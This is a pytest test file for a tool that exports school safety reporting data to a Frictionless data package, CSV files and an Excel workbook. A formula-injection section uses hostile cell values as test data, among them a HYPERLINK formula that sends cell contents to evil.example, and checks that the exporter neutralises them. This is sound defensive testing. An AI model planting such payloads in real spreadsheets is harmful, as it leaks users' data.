"""The data exports: a Frictionless data package and an Excel workbook.

The content here is a small made-up plan (a school safety programme) built from the model
objects, so that the exports are shown to depend on nothing of the seed plan.
"""

from __future__ import annotations

import codecs
import csv
import io
import json
import re
import shutil
import subprocess
import sys
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta, timezone
from pathlib import Path

import frictionless
import pytest
from markupsafe import Markup
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter

from builder import exports
from builder.exports import (
    EXPORTS,
    FORMULA_TRIGGERS,
    Download,
    Export,
    downloads,
    neutralise,
    sheet_title,
    write_data_package,
    write_exports,
    write_workbook,
)
from builder.exports.workbook import display_width
from builder.model import (
    AppliesTo,
    Category,
    Content,
    FieldRef,
    Indicator,
    Operand,
    Report,
    Status,
    Target,
    Task,
    Unit,
    UnitType,
)
from builder.progress import evaluate
from tests.factories import form_from_descriptor, make_period, make_plan, make_report

TZ = timezone(timedelta(hours=8))
AS_OF = date(2025, 7, 20)
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
HOSTILE_NOTES = ["=1+1", "+SUM(A1:A3)", "-2+3", "@cmd", "\tTAB开头", "\r回车开头"]

FORM_DESCRIPTOR = {
    "title": "季度安全检查/报告",
    "description": "每季度填报一次",
    "fields": [
        {
            "name": "drills",
            "type": "integer",
            "title": "应急演练次数",
            "constraints": {"required": True, "minimum": 0},
        },
        {"name": "inspected", "type": "boolean", "title": "是否完成隐患排查"},
        {"name": "notes", "type": "string", "title": "情况说明", "constraints": {"maxLength": 12}},
        {
            "name": "level",
            "type": "string",
            "title": "自评等级",
            "constraints": {"enum": ["良好", "一般", "-"]},
        },
        {"name": "checked_on", "type": "date", "title": "检查日期"},
    ],
}
SURVEY_DESCRIPTOR = {
    "title": "年度总结",
    "fields": [{"name": "summary", "type": "string", "title": "年度总结"}],
}


def make_content(units: tuple[Unit, ...] | None = None) -> Content:
    plan = make_plan(
        id="School-Safety-2025",
        title="2025年校园安全工作计划",
        short_title="校园安全计划",
        year=2025,
        issuer="某区教育局",
        start=date(2025, 1, 1),
        end=date(2025, 12, 31),
        unit_types=(UnitType("primary", "小学"), UnitType("middle", "中学")),
        categories=(Category("drills", "一", "应急演练"),),
    )
    drills = Indicator(
        id="drill-count",
        task_id="t1",
        title="全年应急演练次数",
        rule="sum",
        due=date(2025, 12, 31),
        field=FieldRef("safety", "drills"),
        target=Target(minimum=4),
        measure="次",
    )
    inspected = Indicator(
        id="inspection",
        task_id="t1",
        title="完成隐患排查",
        rule="yes_no",
        due=date(2025, 6, 30),
        field=FieldRef("safety", "inspected"),
        target=Target(equals=True),
    )
    per_class = Indicator(
        id="drills-per-class",
        task_id="t2",
        title="每班演练次数",
        rule="ratio",
        due=date(2025, 12, 31),
        numerator=Operand(field=FieldRef("safety", "drills"), combine="sum"),
        denominator=Operand(unit_attribute="classes"),
        target=Target(minimum=0.5),
    )
    tasks = (
        Task(
            id="t1",
            number=1,
            title="开展应急演练",
            body="",
            category="drills",
            forms=("safety",),
            indicators=(drills, inspected),
        ),
        Task(
            id="t2",
            number=2,
            title="中学专项演练",
            body="",
            category="drills",
            applies_to=AppliesTo(unit_types=("middle",)),
            forms=("safety",),
            indicators=(per_class,),
        ),
    )
    if units is None:
        units = (
            Unit("north", "北区小学", "primary", attributes={"classes": 6}),
            Unit("south", HOSTILE_NAME, "middle", attributes={"classes": 10}),
            Unit("east", "东区中学", "middle", attributes={"classes": 0}),
        )
    periods = (
        make_period("2025-Q1", "2025-01-01", "2025-03-31", "2025-04-10", "2025年第一季度"),
        make_period("2025-Q2", "2025-04-01", "2025-06-30", "2025-07-10", "2025年第二季度"),
        make_period("2025-Q3", "2025-07-01", "2025-09-30", "2025-10-10", "2025年第三季度"),
        make_period("2025", "2025-01-01", "2025-12-31", "2026-01-15", "2025年度"),
    )
    forms = (
        form_from_descriptor("safety", FORM_DESCRIPTOR, ("2025-Q1", "2025-Q2", "2025-Q3")),
        form_from_descriptor("summary", SURVEY_DESCRIPTOR, ("2025",)),
    )
    return Content(plan=plan, tasks=tasks, units=units, periods=periods, forms=forms)


def report(
    rid: str, unit: str, period: str, when: datetime, form: str = "safety", **values: object
) -> Report:
    return make_report(
        unit,
        period,
        dict(values),
        when,
        form=form,
        rid=rid,
        submitted_by={"account": unit, "name": "填报人"},
    )


def make_reports() -> list[Report]:
    return [
        report(
            "r-north-q1",
            "north",
            "2025-Q1",
            datetime(2025, 4, 2, 9, 0, tzinfo=TZ),
            drills=1,
            inspected=False,
            notes="正常",
            level="良好",
            checked_on="2025-03-20",
        ),
        # A correction: same unit, form and period, submitted later; it must replace the first.
        report(
            "r-north-q1-fix",
            "north",
            "2025-Q1",
            datetime(2025, 4, 5, 9, 0, tzinfo=TZ),
            drills=2,
            inspected=True,
            notes="更正后",
            level="良好",
            checked_on="2025-03-21",
        ),
        report(
            "r-north-q2",
            "north",
            "2025-Q2",
            datetime(2025, 7, 3, 9, 0, tzinfo=TZ),
            drills=1,
            inspected=True,
            notes=HOSTILE_NOTES[0],
            level="-",
        ),
        report(
            "r-south-q1",
            "south",
            "2025-Q1",
            datetime(2025, 4, 8, 9, 0, tzinfo=TZ),
            drills=3.0,
            inspected=True,
            notes=HOSTILE_NOTES[1],
        ),
        report(
            "r-south-q2",
            "south",
            "2025-Q2",
            datetime(2025, 7, 8, 9, 0, tzinfo=TZ),
            drills=0,
            notes=HOSTILE_NOTES[2],
        ),
        report(
            "r-east-q1",
            "east",
            "2025-Q1",
            datetime(2025, 4, 9, 9, 0, tzinfo=TZ),
            drills=1,
            notes=HOSTILE_NOTES[3],
        ),
        report(
            "r-east-q2",
            "east",
            "2025-Q2",
            datetime(2025, 7, 9, 9, 0, tzinfo=TZ),
            drills=1,
            notes="旧说明",
        ),
        report(
            "r-east-q2-fix",
            "east",
            "2025-Q2",
            datetime(2025, 7, 10, 9, 0, tzinfo=TZ),
            drills=2,
            notes=HOSTILE_NOTES[4],
        ),
        # Submitted after the as-of date: not yet part of any export.
        report(
            "r-north-q3-future",
            "north",
            "2025-Q3",
            datetime(2025, 10, 1, 9, 0, tzinfo=TZ),
            drills=5,
        ),
        report(
            "r-north-annual",
            "north",
            "2025",
            datetime(2025, 7, 15, 9, 0, tzinfo=TZ),
            form="summary",
            summary=HOSTILE_NOTES[5],
        ),
    ]


@pytest.fixture
def exported(tmp_path: Path) -> dict:
    content, reports = make_content(), make_reports()
    progress = evaluate(content, reports, AS_OF)
    package = write_data_package(content, reports, progress, tmp_path / "data")
    workbook = tmp_path / "data" / "progress.xlsx"
    write_workbook(content, reports, progress, workbook)
    return {
        "content": content,
        "progress": progress,
        "package": package,
        "dir": tmp_path / "data",
        "workbook": workbook,
    }


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


# --- the registry ---------------------------------------------------------------------


def test_every_export_writes_each_file_it_offers_for_download(tmp_path):
    content, reports = make_content(), make_reports()
    write_exports(content, reports, evaluate(content, reports, AS_OF), tmp_path)
    offered = {d.file for d in downloads(content)}
    files = {p.relative_to(tmp_path).as_posix() for p in tmp_path.rglob("*") if p.is_file()}
    assert offered <= files
    # Every file or folder written is offered, or holds an offered file (the calendars'
    # folder: the plan's feed is offered, each unit's is linked from its page).
    assert {p.name for p in tmp_path.iterdir()} == {file.split("/")[0] for file in offered}
    assert {"progress.xlsx", "datapackage.json", "progress.csv", "calendars/plan.ics"} <= offered


def test_an_export_added_to_the_registry_is_written_and_listed(tmp_path, monkeypatch):
    def write(content, reports, progress, out_dir, forms_url):
        (out_dir / "units.txt").write_text("\n".join(u.id for u in content.units))

    def offered(content):
        return [Download("units.txt", "单位清单", Markup("全部单位代码。"))]

    monkeypatch.setattr(exports, "EXPORTS", (*EXPORTS, Export("units", write, offered)))
    content, reports = make_content(), make_reports()
    write_exports(content, reports, evaluate(content, reports, AS_OF), tmp_path)
    assert (tmp_path / "units.txt").read_text() == "\n".join(u.id for u in content.units)
    assert downloads(content)[-1].label == "单位清单"


# --- the data package -----------------------------------------------------------------


def test_package_lists_a_report_table_per_form_and_the_progress_table(exported):
    package = json.loads(exported["package"].read_text(encoding="utf-8"))
    assert exported["package"].name == "datapackage.json"
    assert [r["path"] for r in package["resources"]] == [
        "reports-safety.csv",
        "reports-summary.csv",
        "progress.csv",
        "reporting-status.csv",
        "owing.csv",
    ]
    for resource in package["resources"]:
        assert (exported["dir"] / resource["path"]).is_file()
    assert package["name"] == "school-safety-2025"  # Data Package names are lower case


def test_frictionless_accepts_the_written_package(exported):
    result = frictionless.validate(str(exported["package"]))
    assert result.valid, result.flatten(["rowNumber", "fieldName", "type", "note"])
    assert [task.stats.get("rows", 0) for task in result.tasks] == [6, 1, 9, 12, 0]


def test_frictionless_cli_accepts_the_written_package(exported):
    cli = Path(sys.executable).with_name("frictionless")
    run = subprocess.run(
        [str(cli), "validate", str(exported["package"])],
        capture_output=True,
        text=True,
        check=False,
    )
    assert run.returncode == 0, run.stdout + run.stderr


def test_frictionless_rejects_a_package_with_a_broken_value(exported):
    path = exported["dir"] / "reports-safety.csv"
    text = path.read_text(encoding="utf-8")
    # drills is an integer with minimum 0: put text into the first data row's drills cell.
    lines = text.splitlines()
    cells = next(csv.reader([lines[1]]))
    cells[5] = "三次"
    lines[1] = ",".join(cells)
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")

    result = frictionless.validate(str(exported["package"]))
    assert not result.valid
    errors = result.flatten(["rowNumber", "fieldName", "type"])
    assert [2, "drills", "type-error"] in errors


def test_frictionless_rejects_a_unit_reported_twice_for_one_period(exported):
    path = exported["dir"] / "reports-safety.csv"
    rows = path.read_text(encoding="utf-8").splitlines()
    duplicate = rows[1].replace(rows[1].split(",")[0], "another-id", 1)
    path.write_text("\n".join([*rows, duplicate]) + "\n", encoding="utf-8")

    result = frictionless.validate(str(exported["package"]))
    assert "primary-key" in [e[0] for e in result.flatten(["type"])]


def test_report_columns_are_the_key_columns_then_the_schema_fields_in_order(exported):
    header = next(csv.reader((exported["dir"] / "reports-safety.csv").open(encoding="utf-8")))
    assert header == [
        "submission-id",
        "unit-id",
        "unit-name",
        "period-id",
        "submitted-at",
        "drills",
        "inspected",
        "notes",
        "level",
        "checked_on",
    ]


def test_report_resource_titles_are_chinese(exported):
    package = json.loads(exported["package"].read_text(encoding="utf-8"))
    safety = package["resources"][0]
    assert safety["title"] == "季度安全检查/报告（已审核填报）"
    titles = [f["title"] for f in safety["schema"]["fields"]]
    assert titles == [
        "填报编号",
        "单位代码",
        "单位名称",
        "报送周期",
        "提交时间",
        "应急演练次数",
        "是否完成隐患排查",
        "情况说明",
        "自评等级",
        "检查日期",
    ]
    progress = package["resources"][2]
    assert progress["title"] == "各单位指标进度"
    assert "状态" in [f["title"] for f in progress["schema"]["fields"]]


def test_corrections_appear_once_with_the_latest_values(exported):
    rows = read_csv(exported["dir"] / "reports-safety.csv")
    ids = [r["submission-id"] for r in rows]
    assert "r-north-q1" not in ids and "r-east-q2" not in ids
    assert "旧说明" not in [r["notes"] for r in rows]
    assert ids.count("r-north-q1-fix") == 1 and ids.count("r-east-q2-fix") == 1
    keys = [(r["unit-id"], r["period-id"]) for r in rows]
    assert len(keys) == len(set(keys))
    fixed = next(r for r in rows if r["submission-id"] == "r-north-q1-fix")
    assert fixed["drills"] == "2" and fixed["notes"] == "更正后"


def test_reports_submitted_after_the_as_of_date_are_left_out(exported):
    rows = read_csv(exported["dir"] / "reports-safety.csv")
    assert "r-north-q3-future" not in [r["submission-id"] for r in rows]


def test_reports_are_ordered_by_period_then_unit_registry_order(exported):
    rows = read_csv(exported["dir"] / "reports-safety.csv")
    assert [(r["period-id"], r["unit-id"]) for r in rows] == [
        ("2025-Q1", "north"),
        ("2025-Q1", "south"),
        ("2025-Q1", "east"),
        ("2025-Q2", "north"),
        ("2025-Q2", "south"),
        ("2025-Q2", "east"),
    ]


def test_report_values_are_written_as_frictionless_reads_them(exported):
    rows = {r["submission-id"]: r for r in read_csv(exported["dir"] / "reports-safety.csv")}
    north = rows["r-north-q1-fix"]
    assert north["inspected"] == "true"
    assert north["checked_on"] == "2025-03-21"
    assert north["submitted-at"] == "2025-04-05T09:00:00+08:00"
    assert north["unit-name"] == "北区小学"
    assert rows["r-south-q1"]["drills"] == "3"  # JSON 3.0 in an integer field
    assert rows["r-south-q2"]["inspected"] == ""  # not answered stays empty


def test_progress_csv_has_one_row_per_unit_and_indicator_with_its_status(exported):
    content, progress = exported["content"], exported["progress"]
    rows = read_csv(exported["dir"] / "progress.csv")
    assert len(rows) == len(content.units) * len(content.indicators)
    for row in rows:
        result = progress.result(row["unit-id"], row["indicator-id"])
        assert row["status"] == result.status.value
        assert row["status-label"] == Status(row["status"]).label
        assert row["task-id"] == result.task
    north_drills = next(
        r for r in rows if (r["unit-id"], r["indicator-id"]) == ("north", "drill-count")
    )
    assert north_drills["value"] == "3" and north_drills["value-text"] == "3 次"
    north_yes_no = next(
        r for r in rows if (r["unit-id"], r["indicator-id"]) == ("north", "inspection")
    )
    assert north_yes_no["value"] == "1" and north_yes_no["value-text"] == "是"
    east_ratio = next(
        r for r in rows if (r["unit-id"], r["indicator-id"]) == ("east", "drills-per-class")
    )
    assert east_ratio["value"] == "" and east_ratio["status"] == "not_applicable"


# --- formula injection ----------------------------------------------------------------


@pytest.mark.parametrize("text", [*HOSTILE_NOTES, HOSTILE_NAME])
def test_neutralise_prefixes_a_quote_to_formula_like_text(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["正常", "", "1+1", "a=b", "'=already"])
def test_neutralise_leaves_other_text_alone(text):
    assert neutralise(text) == text


def test_no_csv_cell_starts_with_a_formula_trigger(exported):
    for path in exported["dir"].glob("*.csv"):
        with path.open(encoding="utf-8", newline="") as handle:
            for row in csv.reader(handle):
                for cell in row:
                    assert not cell.startswith(FORMULA_TRIGGERS), (path.name, cell)


def test_hostile_text_survives_in_csv_behind_a_single_quote(exported):
    reports = read_csv(exported["dir"] / "reports-safety.csv")
    notes = {r["notes"] for r in reports}
    assert {"'" + n for n in HOSTILE_NOTES[:5]} <= notes
    summaries = [r["summary"] for r in read_csv(exported["dir"] / "reports-summary.csv")]
    assert summaries == ["'" + HOSTILE_NOTES[5]]
    names = {r["unit-name"] for r in reports} | {
        r["unit-name"] for r in read_csv(exported["dir"] / "progress.csv")
    }
    assert "'" + HOSTILE_NAME in names and HOSTILE_NAME not in names
    # The enum value "-" is itself formula-like: the exported schema accepts its safe form.
    assert "'-" in {r["level"] for r in reports}


def test_schema_still_accepts_a_neutralised_value_at_the_maximum_length(tmp_path):
    content = make_content()
    at_limit = "=" + "字" * 11  # exactly maxLength 12 before the quote is added
    reports = [
        report("r1", "north", "2025-Q1", datetime(2025, 4, 2, tzinfo=TZ), drills=1, notes=at_limit)
    ]
    package = write_data_package(content, reports, evaluate(content, reports, AS_OF), tmp_path)
    result = frictionless.validate(str(package))
    assert result.valid, result.flatten(["fieldName", "type", "note"])
    assert read_csv(tmp_path / "reports-safety.csv")[0]["notes"] == "'" + at_limit


def test_no_workbook_cell_is_a_formula_and_hostile_text_is_kept_verbatim(exported):
    workbook = load_workbook(exported["workbook"])
    texts = set()
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.add(cell.value)
                    if cell.value.startswith(FORMULA_TRIGGERS):
                        assert cell.quotePrefix, (sheet.title, cell.coordinate)
    assert HOSTILE_NAME in texts
    assert set(HOSTILE_NOTES[:5]) <= texts
    # A leading CR is kept as text too (XML normalises it on read back to a newline).
    assert any(t.endswith("回车开头") for t in texts)


# --- for people: CSV tables and the workbook as Excel shows them ------------------------


def people_reports() -> list[Report]:
    """The reports, one of them stamped by a server in UTC (01:00 UTC is 09:00 in Beijing)."""
    return [
        replace(r, submitted_at=r.submitted_at.astimezone(UTC)) if r.id == "r-north-q2" else r
        for r in make_reports()
    ]


def read_people_csv(path: Path) -> list[list[str]]:
    raw = path.read_bytes()
    assert raw.startswith(codecs.BOM_UTF8), path  # Excel then reads it as UTF-8
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def test_csv_tables_for_people_have_a_bom_chinese_headers_and_plain_values(tmp_path):
    content, reports = make_content(), people_reports()
    write_exports(content, reports, evaluate(content, reports, AS_OF), tmp_path)
    rows = read_people_csv(tmp_path / "reports-safety-excel.csv")
    assert rows[0] == [
        "填报编号", "单位代码", "单位名称", "报送周期", "提交时间",
        "应急演练次数", "是否完成隐患排查", "情况说明", "自评等级", "检查日期",
    ]  # fmt: skip
    by_id = {row[0]: row for row in rows[1:]}
    assert by_id["r-north-q1-fix"][1:7] == [
        "north", "北区小学", "2025年第一季度", "2025-04-05 09:00", "2", "是",
    ]  # fmt: skip
    assert by_id["r-north-q2"][4] == "2025-07-03 09:00"  # stamped in UTC, read in Beijing
    progress = read_people_csv(tmp_path / "progress-excel.csv")
    assert progress[0] == ["单位代码", "单位名称", "任务", "指标名称", "值", "状态"]
    assert ["north", "北区小学", "任务1 开展应急演练", "完成隐患排查", "是", "已完成"] in progress
    text = "\n".join(",".join(row) for row in rows + progress)
    assert not re.search(r"\btrue\b|\bfalse\b|\d\dT\d\d:|[+]08:00|2025-Q\d", text)
    for row in rows[1:] + progress[1:]:
        assert not any(cell.startswith(FORMULA_TRIGGERS) for cell in row), row
    # The machine-readable package beside them keeps its identifiers and ISO times.
    package = read_csv(tmp_path / "reports-safety.csv")
    assert package[0]["period-id"] == "2025-Q1" and "T" in package[0]["submitted-at"]
    assert not (tmp_path / "reports-safety.csv").read_bytes().startswith(codecs.BOM_UTF8)


def test_the_workbook_shows_words_local_times_filters_and_fitting_columns(tmp_path):
    content, reports = make_content(), people_reports()
    path = tmp_path / "progress.xlsx"
    write_workbook(content, reports, evaluate(content, reports, AS_OF), path)
    workbook = load_workbook(path)
    sheet = workbook["季度安全检查 报告"]
    header = [cell.value for cell in sheet[1]]
    rows = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    fix = rows["r-north-q1-fix"]
    assert fix[header.index("是否完成隐患排查")].value == "是"
    assert fix[header.index("报送周期")].value == "2025年第一季度"
    submitted = rows["r-north-q2"][header.index("提交时间")]
    assert submitted.value == datetime(2025, 7, 3, 9, 0)  # a real date-time, Beijing clock
    assert submitted.number_format == "yyyy-mm-dd hh:mm"
    progress_rows = list(workbook["指标进度"].iter_rows(min_row=2, values_only=True))
    assert (
        "north",
        "北区小学",
        "任务1 开展应急演练",
        "完成隐患排查",
        "是",
        "已完成",
    ) in progress_rows
    for each in workbook.worksheets:
        assert each.freeze_panes == "A2", each.title
        last = f"{get_column_letter(each.max_column)}{each.max_row}"
        assert each.auto_filter.ref == f"A1:{last}", each.title
        for index, title in enumerate(cell.value for cell in each[1]):
            width = each.column_dimensions[get_column_letter(index + 1)].width
            assert width >= display_width(title), (each.title, title, width)
        for row in each.iter_rows(min_row=2):
            assert not any(cell.data_type == "b" for cell in row), each.title  # no TRUE/FALSE
    name_width = sheet.column_dimensions[get_column_letter(header.index("单位名称") + 1)].width
    assert name_width >= display_width(HOSTILE_NAME)  # the longest unit name fits


# --- the workbook ---------------------------------------------------------------------


def test_workbook_has_unit_progress_indicator_progress_and_a_sheet_per_form(exported):
    workbook = load_workbook(exported["workbook"])
    assert workbook.sheetnames == [
        "各单位进度",
        "指标进度",
        "季度安全检查 报告",
        "年度总结",
        "报送情况",
        "催报名单",
    ]


def test_every_sheet_has_a_frozen_chinese_header_row(exported):
    workbook = load_workbook(exported["workbook"])
    for sheet in workbook.worksheets:
        assert sheet.freeze_panes == "A2"
        header = [c.value for c in sheet[1]]
        assert all(any("\u4e00" <= ch <= "\u9fff" for ch in h) for h in header), header
        assert all(c.font.bold for c in sheet[1])
    assert [c.value for c in workbook["各单位进度"][1]] == [
        "单位代码",
        "单位名称",
        "单位类型",
        "完成率",
        "适用指标数",
        "已完成",
        "进展正常",
        "进度滞后",
        "未报送",
        "已逾期",
    ]


def test_unit_progress_sheet_matches_the_progress_rollups(exported):
    content, progress = exported["content"], exported["progress"]
    sheet = load_workbook(exported["workbook"])["各单位进度"]
    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    assert [r[0] for r in rows] == [u.id for u in content.units]
    for row in rows:
        rollup = progress.unit_rollup(row[0])
        assert row[3] == rollup.share
        assert row[4] == rollup.applicable
        assert list(row[5:]) == [rollup.counts[s] for s in Status if s is not Status.NOT_APPLICABLE]
    assert rows[1][2] == "中学"
    assert sheet["D2"].number_format == "0.0%"


def test_form_sheets_show_each_effective_report_once(exported):
    sheet = load_workbook(exported["workbook"])["季度安全检查 报告"]
    ids = [r[0] for r in sheet.iter_rows(min_row=2, values_only=True)]
    assert ids == [r["submission-id"] for r in read_csv(exported["dir"] / "reports-safety.csv")]
    assert [c.value for c in sheet[1]][:5] == [
        "填报编号",
        "单位代码",
        "单位名称",
        "报送周期",
        "提交时间",
    ]


def test_control_characters_in_text_do_not_break_the_workbook(tmp_path):
    content = make_content()
    reports = [
        report(
            "r1",
            "north",
            "2025-Q1",
            datetime(2025, 4, 2, tzinfo=TZ),
            drills=1,
            notes="响铃\x07结束",
        )
    ]
    path = tmp_path / "out.xlsx"
    write_workbook(content, reports, evaluate(content, reports, AS_OF), path)
    values = [
        r[7]
        for r in load_workbook(path)["季度安全检查 报告"].iter_rows(min_row=2, values_only=True)
    ]
    assert values == ["响铃结束"]


@pytest.mark.parametrize(
    ("wanted", "expected"),
    [
        ("季度安全检查/报告", "季度安全检查 报告"),
        ("[a]:b*c?", "abc"),
        ("很长" * 20, "很长" * 15 + "很"),
        ("'引号'", "引号"),
        ("", "Sheet"),
    ],
)
def test_sheet_titles_are_valid_excel_names(wanted, expected):
    title = sheet_title(wanted, set())
    assert len(title) <= 31
    assert title.replace(" ", "") == expected.replace(" ", "")


def test_sheet_titles_stay_unique(tmp_path):
    taken: set[str] = set()
    titles = [sheet_title("年度总结", taken) for _ in range(3)]
    assert titles == ["年度总结", "年度总结(2)", "年度总结(3)"]


# --- scale ----------------------------------------------------------------------------


@pytest.mark.slow
def test_five_thousand_units_by_three_quarters_export_and_validate(tmp_path):
    units = tuple(
        Unit(
            f"u{n:04d}", f"单位{n}", "middle" if n % 2 else "primary", attributes={"classes": n % 7}
        )
        for n in range(5000)
    )
    content = make_content(units)
    reports = [
        report(
            f"r-{u.id}-{q}",
            u.id,
            f"2025-Q{q}",
            datetime(2025, 3 * q + 1, 2, tzinfo=TZ),
            drills=n % 4,
            inspected=bool(n % 3),
            notes=("=x" if n % 50 == 0 else "正常"),
        )
        for n, u in enumerate(units)
        for q in (1, 2, 3)
    ]
    as_of = date(2025, 12, 31)
    progress = evaluate(content, reports, as_of)
    package = write_data_package(content, reports, progress, tmp_path / "data")
    write_workbook(content, reports, progress, tmp_path / "data" / "progress.xlsx")

    result = frictionless.validate(str(package))
    assert result.valid, result.flatten(["rowNumber", "fieldName", "type"])[:5]
    assert [t.stats.get("rows", 0) for t in result.tasks] == [15000, 0, 15000, 20000, 0]
    workbook = load_workbook(tmp_path / "data" / "progress.xlsx", read_only=True)
    assert sum(1 for _ in workbook["季度安全检查 报告"].iter_rows(values_only=True)) == 15001
    shutil.rmtree(tmp_path / "data")


# --- the exports the built site publishes ----------------------------------------------


def test_the_built_site_publishes_a_valid_data_package_and_workbook(built_site):
    data = built_site.root / "data"
    result = frictionless.validate(str(data / "datapackage.json"))
    assert result.valid, result.flatten(["rowNumber", "fieldName", "type", "note"])[:5]
    workbook = load_workbook(data / "progress.xlsx", read_only=True)
    for sheet in workbook.worksheets:
        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_a_day_done_is_text_not_a_number_in_the_progress_table(tmp_path):
    # The second plan's done_on item: its value is a day, which the numeric value column
    # cannot hold; the column stays empty and the day is in the shown value.
    from builder.plan import load_content
    from builder.reports import load_reports
    from tests.fixtures import SCHOOL_SAFETY

    content = load_content(SCHOOL_SAFETY)
    reports = load_reports(SCHOOL_SAFETY, content)
    progress = evaluate(content, reports, date(2025, 8, 1))
    package = write_data_package(content, reports, progress, tmp_path / "data")
    result = frictionless.validate(str(package))
    assert result.valid, result.flatten(["rowNumber", "fieldName", "type", "note"])[:5]
    rows = read_csv(tmp_path / "data" / "progress.csv")
    done = {r["unit-id"]: r for r in rows if r["indicator-id"] == "fire-plan-revised"}
    assert (done["shiyan-ms"]["value"], done["shiyan-ms"]["value-text"]) == ("", "2025-06-20")
    assert done["shiyan-ms"]["status-label"] == "已完成"
    workbook = tmp_path / "progress.xlsx"
    write_workbook(content, reports, progress, workbook)
    sheet = load_workbook(workbook, read_only=True)["指标进度"]
    title = next(i.title for i in content.indicators if i.id == "fire-plan-revised")
    cells = [row for row in sheet.iter_rows(values_only=True) if title in row]
    assert cells and all(not isinstance(cell, datetime) for row in cells for cell in row)
